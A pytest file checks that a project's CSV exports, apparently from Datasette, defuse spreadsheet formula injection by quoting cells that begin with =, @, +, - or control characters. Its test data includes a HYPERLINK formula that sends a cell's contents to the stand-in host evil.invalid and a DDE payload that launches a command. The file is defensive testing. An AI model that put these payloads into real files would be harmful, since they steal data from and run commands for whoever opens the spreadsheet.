"""A table as CSV holds no formula, and is otherwise what Datasette wrote."""

from __future__ import annotations

import csv
import io

import pytest
from browse.conftest import Told, browsing
from stories import events

from timeline.browse.spreadsheet import Cells
from timeline.events import MentionSeen
from timeline.stored import moment

AT = moment("2026-03-22T08:00:00Z")
FORMULA = '=HYPERLINK("https://evil.invalid/?x="&A1, "Kestrel Lines")'


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        (FORMULA, f"'{FORMULA}"),
        ("@SUM(1)", "'@SUM(1)"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("\tKestrel", "'\tKestrel"),
        ("\rKestrel", "'\rKestrel"),
        ("-12.5", "-12.5"),
        ("+7", "+7"),
        ("Kestrel = Lines", "Kestrel = Lines"),
        ('two lines,\nand a "quote"', 'two lines,\nand a "quote"'),
        ("", ""),
    ],
)
def test_a_cell_is_text_or_a_number(cell: str, shown: str) -> None:
    """Behaviour 75, on rows that arrive in one piece, and byte by byte."""
    written = io.StringIO(newline="")
    csv.writer(written).writerows([["title", "n"], [cell, "1"], ["ünd", cell]])
    sent = written.getvalue().encode()
    for step in (len(sent), 1):
        cells = Cells()
        parts = [cells.harmless(sent[at : at + step], last=False) for at in range(0, len(sent), step)]
        read = [*csv.reader(io.StringIO(b"".join([*parts, cells.harmless(b"", last=True)]).decode(), newline=""))]
        assert read == [["title", "n"], [shown, "1"], ["ünd", shown]]


@pytest.mark.parametrize("path", ["/events/mentions.csv?_size=max", "/events/mentions.csv?_stream=1&_dl=1"])
def test_a_headline_is_no_formula_in_a_download(told: Told, path: str) -> None:
    hostile = MentionSeen(
        feed="tidal-post", key="formula", link="https://tidal.example/x", title=FORMULA, published_at=AT, seen_at=AT
    )
    with browsing(told([*events(), hostile])) as browser:
        rows = [*csv.DictReader(io.StringIO(browser.text(path), newline=""))]
        plain = browser("/events/mentions.json?_size=max&_shape=array").json()
    assert [row["title"] for row in rows if "HYPERLINK" in row["title"]] == [f"'{FORMULA}"]
    assert len(rows) == len(plain) > 10
    assert FORMULA in [row["title"] for row in plain], "only spreadsheets take it for more than text"
